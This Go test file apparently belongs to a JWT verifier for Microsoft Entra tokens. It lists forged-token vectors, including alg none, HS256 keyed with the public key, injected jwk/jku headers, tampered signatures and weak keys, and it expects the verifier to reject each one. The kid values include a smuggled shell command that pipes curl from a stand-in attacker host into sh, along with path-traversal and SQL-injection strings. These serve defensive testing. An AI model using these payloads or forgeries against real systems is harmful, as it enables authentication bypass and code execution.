package verify

import (
	"crypto"
	"crypto/hmac"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"encoding/pem"
	"math/big"
	"strings"
	"sync"

	"github.com/tenantry/tenantry/entra/verify/internal/rule"
)

func headerVectors() []vector {
	embedded := func(f forge) forge {
		f = f.head1("jwk", jwkOf("x", "", &rogueKey().PublicKey))
		f.key = rogueKey()
		return f
	}
	return []vector{
		{name: "jwk, the very key that signed", change: head("jwk", jwkOf(keyID, "", &signingKey().PublicKey)), chain: one(rule.HeaderJWK)},
		{name: "jwk of the attacker, who signed", change: embedded, chain: []rule.ID{rule.HeaderJWK, rule.SignatureValue}, why: "no code here could use a key from the header, so the key of the authority judges the signature"},
		{name: "jku", change: head("jku", "https://evil.example/keys"), chain: one(rule.HeaderJKU)},
		{name: "jku at the authority itself", change: head("jku", "https://login.microsoftonline.com/common/discovery/v2.0/keys"), chain: one(rule.HeaderJKU)},
		{name: "x5u", change: head("x5u", "https://evil.example/cert"), chain: one(rule.HeaderX5U)},
		{name: "x5c", change: head("x5c", []string{"MII"}), chain: one(rule.HeaderX5C)},
		{name: "crit of a known member", change: head("crit", []string{"exp"}), chain: one(rule.HeaderCrit)},
		{name: "crit of an unknown member", change: head("crit", []string{"https://evil.example/x"}), chain: one(rule.HeaderCrit)},
		{name: "b64 false", change: head("b64", false), chain: one(rule.HeaderB64)},
		{name: "zip", change: head("zip", "DEF"), chain: one(rule.HeaderZip)},
		{name: "cty JWT, a nested token", change: head("cty", "JWT"), chain: one(rule.HeaderCty)},
		{name: "enc, an encrypted token in three parts", change: head("enc", "A256GCM"), chain: one(rule.HeaderForeign)},
		{name: "epk", change: head("epk", map[string]any{"kty": "EC"}), chain: one(rule.HeaderForeign)},
		{name: "p2c, a million rounds", change: head("p2c", 1000000), chain: one(rule.HeaderForeign)},
		{name: "alg as a list", change: head("alg", []string{"RS256"}), chain: one(rule.HeaderMember)},
		{name: "kid as a list", change: head("kid", []string{keyID}), chain: one(rule.HeaderMember)},
		{name: "kid as a number", change: head("kid", 7), chain: []rule.ID{rule.HeaderMember, rule.SignatureKey}, why: "read carelessly it is the id of an unknown key"},
		{name: "typ at+jwt", change: head("typ", "at+jwt"), chain: one(rule.HeaderTyp)},
		{name: "typ logout+jwt", change: head("typ", "logout+jwt"), chain: one(rule.HeaderTyp)},
		{name: "typ dpop+jwt", change: head("typ", "dpop+jwt"), chain: one(rule.HeaderTyp)},
		{name: "typ id_token", change: head("typ", "id_token"), chain: one(rule.HeaderTyp)},
		{name: "typ in small letters", change: head("typ", "jwt"), chain: one(rule.HeaderTyp)},
		{name: "typ missing", change: head("typ", nil), chain: one(rule.HeaderTyp)},
		{name: "nonce in the header, a token for Microsoft Graph", change: head("nonce", "abc"), chain: one(rule.SignatureNonce)},
	}
}

func algorithmVectors() []vector {
	only := func(alg string) vector {
		return vector{name: "alg " + alg + ", signed with RS256 all the same", change: head("alg", alg), chain: one(rule.Algorithm)}
	}
	unsound := func(name, alg string, sign func(string) []byte) vector {
		return vector{
			name: name, chain: []rule.ID{rule.Algorithm, rule.SignatureValue}, why: "there is no code for another algorithm, so the signature is judged by RS256",
			change: func(f forge) forge { f = f.head1("alg", alg); f.sign = sign; return f },
		}
	}
	hs256 := func(secret []byte) func(string) []byte {
		return func(input string) []byte {
			mac := hmac.New(sha256.New, secret)
			mac.Write([]byte(input))
			return mac.Sum(nil)
		}
	}
	public := &signingKey().PublicKey
	der, _ := x509.MarshalPKIXPublicKey(public)
	return []vector{
		only("none"), only("None"), only("nOnE"), only("NONE"), only("rs256"), only("RS256 "), only("RS384"), only("RS512"), only("PS256"), only("ES256"), only("ES256K"), only("EdDSA"), only("HS256"), only("RSA1_5"),
		{name: "alg missing", change: head("alg", nil), chain: one(rule.Algorithm)},
		{name: "alg none without a signature", change: func(f forge) forge {
			f = f.head1("alg", "none")
			f.after = part(2, func(string) string { return "" })
			return f
		}, chain: []rule.ID{rule.FormEmptySignature, rule.Algorithm, rule.SignatureValue}, why: "two changes by nature: each of them alone is a vector too"},
		unsound("HS256 under the public key in PEM", "HS256", hs256(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}))),
		unsound("HS256 under the public key in DER", "HS256", hs256(der)),
		unsound("HS256 under the modulus", "HS256", hs256(public.N.Bytes())),
		unsound("HS256 under an empty secret", "HS256", hs256(nil)),
		unsound("ES256 with a signature of zeroes", "ES256", func(string) []byte { return make([]byte, 64) }),
		unsound("PS256, soundly signed", "PS256", func(input string) []byte {
			sum := sha256.Sum256([]byte(input))
			sig, _ := rsa.SignPSS(zeroes{}, signingKey(), crypto.SHA256, sum[:], nil)
			return sig
		}),
		unsound("RS512, soundly signed", "RS512", func(input string) []byte {
			sum := sha512.Sum512([]byte(input))
			sig, _ := rsa.SignPKCS1v15(nil, signingKey(), crypto.SHA512, sum[:])
			return sig
		}),
	}
}

// zeroes makes PSS signatures the same in every run.
type zeroes struct{}

func (zeroes) Read(p []byte) (int, error) { clear(p); return len(p), nil }

func signatureVectors() []vector {
	kid := func(name, value string) vector {
		return vector{name: name, change: head("kid", value), chain: one(rule.SignatureKey)}
	}
	signature := func(name string, change func(sig []byte) []byte) vector {
		return vector{name: name, change: after(part(2, func(s string) string { return b64(change(decoded(s))) })), chain: one(rule.SignatureValue)}
	}
	return []vector{
		{name: "kid missing", change: head("kid", nil), chain: []rule.ID{rule.SignatureKid, rule.SignatureKey}, why: "no key has an empty id"},
		{name: "kid of 10 kB", change: head("kid", strings.Repeat("k", 10<<10)), chain: []rule.ID{rule.SignatureKid, rule.SignatureKey}, why: "no key has such an id"},
		kid("kid unknown", "unknown"),
		kid("kid in small letters", strings.ToLower(keyID)),
		kid("kid as a path", "../../dev/null"),
		kid("kid as SQL", "' UNION SELECT 'key' --"),
		kid("kid as a URL", "https://evil.example/key"),
		kid("kid with a command", "x;curl evil.example|sh"),
		{name: "kid of another key of the set", change: head("kid", "second"), chain: one(rule.SignatureValue)},
		{name: "signed by a key that is not of the set", change: func(f forge) forge { f.key = rogueKey(); return f }, chain: one(rule.SignatureValue)},
		{name: "payload changed after signing", change: after(part(1, func(s string) string {
			return b64([]byte(strings.Replace(string(decoded(s)), `"uti":"u0"`, `"uti":"u1"`, 1)))
		})), chain: one(rule.SignatureValue)},
		{name: "header changed after signing", change: after(part(0, func(s string) string { return b64([]byte(last(`"x":1`)(string(decoded(s))))) })), chain: one(rule.SignatureValue)},
		{name: "signature of another token", change: func(f forge) forge {
			other := f.with(map[string]any{"uti": "u1"}).token()
			return after(part(2, func(string) string { return other[strings.LastIndexByte(other, '.')+1:] }))(f)
		}, chain: one(rule.SignatureValue)},
		signature("one bit of the signature changed", func(sig []byte) []byte { sig[100] ^= 1; return sig }),
		signature("last bit of the signature changed", func(sig []byte) []byte { sig[255] ^= 1; return sig }),
		signature("signature cut by a byte", func(sig []byte) []byte { return sig[:255] }),
		signature("signature with a zero before it", func(sig []byte) []byte { return append([]byte{0}, sig...) }),
		signature("signature with a byte behind it", func(sig []byte) []byte { return append(sig, 0) }),
		signature("signature of zeroes", func(sig []byte) []byte { clear(sig); return sig }),
		signature("signature of one", func(sig []byte) []byte { clear(sig); sig[255] = 1; return sig }),
		signature("signature plus the modulus", func(sig []byte) []byte {
			n := new(big.Int).SetBytes(sig)
			return n.Add(n, signingKey().N).Bytes()
		}),
		signature("signature is the padded hash itself", func([]byte) []byte { return make([]byte, 256) }),
		{name: "a client assertion of the partner's own key", on: "access", change: func(f forge) forge {
			f = f.with(map[string]any{"iss": clientID, "sub": clientID, "aud": "https://login.microsoftonline.com/" + tenantA + "/oauth2/v2.0/token", "jti": "1", "appid": nil, "azp": nil, "oid": nil, "tid": nil})
			f.key = rogueKey()
			return f.head1("kid", "partner-certificate")
		}, chain: one(rule.SignatureKey), floor: "an assertion has neither tenant nor version"},
	}
}

// shortKey and thirdKey are keys that are refused: of 1024 bits, and of the
// exponent three.
var (
	shortKey = sync.OnceValue(func() *rsa.PrivateKey { return mustKey(1024) })
	thirdKey = sync.OnceValue(func() *rsa.PrivateKey { return keyOfExponent(3) })
)

func keyVectors() []vector {
	public := &signingKey().PublicKey
	change := func(name string, value any) func() []jwk {
		return func() []jwk {
			k := jwkOf(keyID, templateIssuer, public)
			k[name] = value
			return []jwk{k, jwkOf("second", templateIssuer, &rogueKey().PublicKey)}
		}
	}
	two := func(second jwk) func() []jwk {
		return func() []jwk {
			return []jwk{jwkOf(keyID, templateIssuer, public), second, jwkOf("second", templateIssuer, &rogueKey().PublicKey)}
		}
	}
	signedBy := func(key func() *rsa.PrivateKey) func(forge) forge {
		return func(f forge) forge { f.key = key(); return f }
	}
	only := func(key func() *rsa.PrivateKey) func() []jwk {
		return func() []jwk {
			return []jwk{jwkOf(keyID, templateIssuer, &key().PublicKey), jwkOf("second", templateIssuer, &rogueKey().PublicKey)}
		}
	}
	const login = "https://login.microsoftonline.com/"
	noCode := "there is no code for keys of another type"
	return []vector{
		{name: "key is gone from the set", keys: func() []jwk { return []jwk{jwkOf("second", templateIssuer, &rogueKey().PublicKey)} }, chain: one(rule.SignatureKey)},
		{name: "key of an elliptic curve under an RS256 header", keys: change("kty", "EC"), chain: one(rule.KeyType)},
		{name: "key that is a secret", keys: func() []jwk {
			return []jwk{{"kty": "oct", "kid": keyID, "k": "AAAA"}, jwkOf("second", templateIssuer, &rogueKey().PublicKey)}
		}, chain: []rule.ID{rule.KeyType, rule.KeyMalformed}, why: noCode},
		{name: "key for encryption", keys: change("use", "enc"), chain: one(rule.KeyUse)},
		{name: "key for another operation", keys: change("key_ops", []string{"encrypt"}), chain: one(rule.KeyOps)},
		{name: "key for PS256", keys: change("alg", "PS256"), chain: one(rule.KeyAlg)},
		{name: "key for HS256", keys: change("alg", "HS256"), chain: one(rule.KeyAlg)},
		{name: "key without a modulus", keys: change("n", ""), chain: one(rule.KeyMalformed)},
		{name: "key with padding in its modulus", keys: change("n", b64(public.N.Bytes())+"=="), chain: one(rule.KeyMalformed)},
		{name: "key with an exponent of 40 bytes", keys: change("e", b64(make40())), chain: one(rule.KeyMalformed)},
		{name: "key of 1024 bits", change: signedBy(shortKey), keys: only(shortKey), chain: one(rule.KeySize)},
		{name: "key of exponent 3", change: signedBy(thirdKey), keys: only(thirdKey), chain: one(rule.KeyExponent)},
		{name: "key of exponent 1", keys: change("e", "AQ"), chain: []rule.ID{rule.KeyExponent, rule.SignatureValue}, why: "crypto/rsa refuses such a key too"},
		{name: "key of an even exponent", keys: change("e", b64([]byte{1, 0, 2})), chain: []rule.ID{rule.KeyExponent, rule.SignatureValue}, why: "the key is another one then"},
		{name: "key whose issuer is a number", keys: change("issuer", 1), chain: one(rule.KeyIssuerType)},
		{name: "one id for two keys", keys: two(jwkOf(keyID, templateIssuer, &rogueKey().PublicKey)), chain: one(rule.KeyAmbiguous)},
		{name: "one id for two issuers", keys: two(jwkOf(keyID, login+tenantB+"/v2.0", public)), chain: one(rule.KeyAmbiguous)},
		{name: "key of another tenant, named by its kid", change: head("kid", "tenant-b"), keys: two(jwkOf("tenant-b", login+tenantB+"/v2.0", public)), chain: one(rule.KeyIssuer)},
		{name: "key of personal accounts", keys: change("issuer", login+consumers+"/v2.0"), chain: one(rule.KeyIssuer)},
		{name: "key of another cloud", keys: change("issuer", "https://login.microsoftonline.us/{tenantid}/v2.0"), chain: one(rule.KeyIssuer)},
		{name: "key of a look-alike host", keys: change("issuer", "https://login.microsoftonline.com.evil.example/{tenantid}/v2.0"), chain: one(rule.KeyIssuer)},
		{name: "key whose issuer has two placeholders", keys: change("issuer", login+"{tenantid}/{tenantid}/v2.0"), chain: one(rule.KeyIssuer)},
		{name: "key whose issuer is the empty template", keys: change("issuer", "{tenantid}"), chain: one(rule.KeyIssuer)},
	}
}

func make40() []byte {
	b := make([]byte, 40)
	b[0], b[39] = 1, 1
	return b
}
